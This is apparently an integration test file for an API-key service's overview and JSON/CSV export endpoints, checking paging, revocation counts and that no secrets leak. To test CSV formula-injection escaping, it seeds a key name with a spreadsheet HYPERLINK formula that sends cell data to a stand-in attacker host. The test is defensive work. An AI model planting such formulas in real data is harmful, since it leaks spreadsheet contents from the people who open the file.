/**
 * The overview and the export end to end on the local stack: keys made through the signed API,
 * the keys table's stream read by the poller into the audit consumer (which keeps the aggregates),
 * each function running as its own local role (so a missing grant fails here). The export pages
 * through the registry, JSON and CSV, and never carries a secret, hash or metadata.
 */
import { DynamoDBClient, ScanCommand } from '@aws-sdk/client-dynamodb';
import { unmarshall } from '@aws-sdk/util-dynamodb';
import type { LocalPrincipal } from '../../local/credentials';
import type { LocalStack } from '../../local/stack';
import { localWorkers } from '../../local/workers';
import { type HttpResponse, sendSigned, startTestStack } from '../support/local-stack';

let stack: LocalStack;
let admin: LocalPrincipal;

beforeAll(async () => {
  stack = await startTestStack({ workers: localWorkers() });
  const first = stack.credentials[0];
  if (!first) throw new Error('no local principal');
  admin = first;
});
afterAll(async () => {
  await stack?.stop();
});

function call(
  method: string,
  path: string,
  options: { body?: unknown; query?: string } = {},
): Promise<HttpResponse> {
  return sendSigned(stack.url, {
    principal: admin,
    method,
    path,
    ...(options.query ? { query: options.query } : {}),
    ...(options.body === undefined
      ? {}
      : { body: JSON.stringify(options.body), headers: { 'content-type': 'application/json' } }),
  });
}

/** Polls `read` until `done` holds (the stream is asynchronous), or fails after 20 s. */
async function until<T>(read: () => Promise<T>, done: (value: T) => boolean): Promise<T> {
  const started = Date.now();
  for (;;) {
    const value = await read();
    if (done(value)) return value;
    if (Date.now() - started > 20_000)
      throw new Error(`condition never held; last value ${JSON.stringify(value)}`);
    await new Promise((r) => setTimeout(r, 100));
  }
}

/** RFC 4180 parsing, enough for the export (quoted fields with commas, quotes and line breaks). */
function parseCsv(text: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  let cell = '';
  let quoted = false;
  for (let i = 0; i < text.length; i++) {
    const c = text[i];
    if (quoted) {
      if (c === '"' && text[i + 1] === '"') {
        cell += '"';
        i++;
      } else if (c === '"') quoted = false;
      else cell += c;
    } else if (c === '"') quoted = true;
    else if (c === ',') {
      row.push(cell);
      cell = '';
    } else if (c === '\r' && text[i + 1] === '\n') {
      row.push(cell);
      rows.push(row);
      row = [];
      cell = '';
      i++;
    } else cell += c;
  }
  return rows;
}

const FORMULA = '=HYPERLINK("http://e.vil/?x="&A1,"click")';

describe('overview and export through the local gateway', () => {
  const ids: string[] = [];
  const tokens: string[] = [];

  beforeAll(async () => {
    const bodies = [
      { name: FORMULA, scopes: ['agents:read'], description: 'line 1\nline 2, with "quotes"' },
      { name: '@SUM(1+1)', scopes: ['metrics:read'], environment: 'production' },
      { name: 'plain', scopes: ['agents:write'], metadata: { owner: 'team-a' } },
      ...Array.from({ length: 4 }, (_, i) => ({
        name: `bulk ${i}`,
        scopes: ['agents:read'],
        organization_id: 'other',
      })),
    ];
    for (const body of bodies) {
      const res = await call('POST', '/v1/api-keys', { body });
      expect(res.status).toBe(201);
      ids.push(res.json<{ id: string }>().id);
      tokens.push(res.json<{ key: string }>().key);
    }
  });

  it('shows created and revoked keys once the stream has delivered them', async () => {
    const o = await until(
      async () => (await call('GET', '/v1/api-keys/overview')).json<{ keys: { total: number } }>(),
      (b) => b.keys.total === 7,
    );
    expect(o).toMatchObject({ keys: { total: 7, active: 7, revoked: 0 } });
    expect(await call('DELETE', `/v1/api-keys/${ids[3]}`).then((r) => r.status)).toBe(200);
    const after = await until(
      async () =>
        (await call('GET', '/v1/api-keys/overview', { query: 'organization_id=other' })).json<{
          keys: { total: number; active: number; revoked: number };
        }>(),
      (b) => b.keys.revoked === 1,
    );
    expect(after.keys).toMatchObject({ total: 4, active: 3, revoked: 1 });
  });

  it('exports the registry as JSON pages without secrets, hashes or metadata', async () => {
    const seen: Record<string, unknown>[] = [];
    let token: string | null = null;
    let pages = 0;
    do {
      const res = await call('GET', '/v1/api-keys/export', {
        query: `format=json&limit=3${token ? `&next_token=${encodeURIComponent(token)}` : ''}`,
      });
      expect(res.status).toBe(200);
      const page = res.json<{ items: Record<string, unknown>[]; next_token: string | null }>();
      expect(page.items.length).toBeLessThanOrEqual(3);
      seen.push(...page.items);
      token = page.next_token;
      pages++;
    } while (token);
    expect(pages).toBeGreaterThanOrEqual(3);
    expect(seen.map((k) => k.id).sort()).toEqual([...ids].sort());
    for (const k of seen) {
      expect(Object.keys(k).some((f) => /hash|secret|ciphertext|^key$|metadata/.test(f))).toBe(false);
    }
    expect(seen.find((k) => k.id === ids[3])?.status).toBe('revoked');
  });

  it('exports CSV pages safe to open in a spreadsheet', async () => {
    const rows: string[][] = [];
    let token: string | undefined;
    let text = '';
    do {
      const res = await call('GET', '/v1/api-keys/export', {
        query: `format=csv&limit=4${token ? `&next_token=${encodeURIComponent(token)}` : ''}`,
      });
      expect(res.status).toBe(200);
      expect(res.headers['content-type']).toBe('text/csv; charset=utf-8');
      const parsed = parseCsv(res.text);
      expect(parsed[0]?.[0]).toBe('id');
      rows.push(...parsed.slice(1));
      text += res.text;
      const next = res.headers['x-next-token'];
      token = typeof next === 'string' ? next : undefined;
    } while (token);
    expect(rows.map((r) => r[0]).sort()).toEqual([...ids].sort());
    const byId = new Map(rows.map((r) => [r[0], r]));
    expect(byId.get(ids[0] ?? '')?.[1]).toBe(`'${FORMULA}`);
    expect(byId.get(ids[0] ?? '')?.[2]).toBe('line 1\nline 2, with "quotes"');
    expect(byId.get(ids[1] ?? '')?.[1]).toBe("'@SUM(1+1)");
    for (const r of rows) for (const cell of r) expect(/^[=+\-@\t\r]/.test(cell)).toBe(false);
    // Nothing secret: no token, and no stored hash or ciphertext.
    const db = new DynamoDBClient({});
    try {
      const items = (
        (await db.send(new ScanCommand({ TableName: stack.tables.KEYS_TABLE_NAME as string }))).Items ?? []
      ).map((i) => unmarshall(i));
      const secrets = items
        .flatMap((i) => [i.secret_hash, i.previous_secret_hash])
        .filter(Boolean) as string[];
      expect(secrets.length).toBe(7);
      for (const s of [...secrets, ...tokens]) expect(text).not.toContain(s);
      expect(text).not.toContain('team-a');
    } finally {
      db.destroy();
    }
  });

  it('refuses a bad export query with 400 and the error shape', async () => {
    for (const query of ['format=xml', 'limit=501', 'next_token=zzz', 'extra=1']) {
      const res = await call('GET', '/v1/api-keys/export', { query });
      expect(res.status).toBe(400);
      expect(res.json<{ error: { code: string } }>().error.code).toBe('validation_error');
    }
  });
});
